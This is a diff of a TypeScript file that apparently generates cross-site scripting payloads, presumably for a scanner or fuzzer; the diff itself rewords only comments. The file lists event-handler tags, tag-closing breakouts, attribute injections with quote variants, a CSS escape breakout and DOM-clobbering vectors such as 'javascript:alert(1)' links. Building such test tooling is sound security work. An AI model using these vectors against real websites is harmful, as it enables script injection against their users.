@@ -1,6 +1,6 @@
 import { type Attack, addresses, pairs, vectors } from './pieces.ts'
 
-/** Elements with the event that comes by itself, or at the first touch of a finger. */
+/** Elements with events that fire by themselves or on the first touch. */
 const eventTags: readonly [tag: string, events: readonly string[]][] = [
   ['img src=x', ['onerror', 'onloadstart', 'onfocus tabindex=1 autofocus', 'onpointerover']],
   ['svg', ['onload', 'onfocusin tabindex=1 autofocus', 'onclick']],
@@ -60,7 +60,7 @@ const endsOf = [
   ...['</TITLE\n>', '</style/x>', '</script\t>', '</ScRiPt x="">'],
 ]
 
-/** Ends what the text stands in, and begins something else. */
+/** Closes the surrounding element and starts another one. */
 const breakouts: readonly Attack[] = pairs(endsOf, vectors).map(
   ([end, vector]) =>
     (one) =>
@@ -70,7 +70,7 @@ const breakouts: readonly Attack[] = pairs(endsOf, vectors).map(
 const quotes = ['"', "'", '`', '']
 const gaps = [' ', '/', '\n', '\t', '\f', '" "']
 
-/** Stays in the tag, and gives it an attribute more. */
+/** Stays within the tag and adds an attribute. */
 const attributes: readonly Attack[] = pairs(pairs(quotes, gaps), ['onfocus', 'onmouseover', 'style']).map(
   ([[quote, gap], event]): Attack => {
     if (event === 'style')
@@ -119,7 +119,7 @@ const styles: readonly Attack[] = [
   ({ elsewhere }) => `\\3c/style><img src=${elsewhere}>`,
 ]
 
-/** Elements whose names stand in the way of what a script asks the document for. */
+/** DOM clobbering: elements whose names shadow properties of the document. */
 const clobbering: readonly Attack[] = [
   () => '<a id=xss href=javascript:alert(1)>',
   () => '<form name=body><input name=attributes></form>',
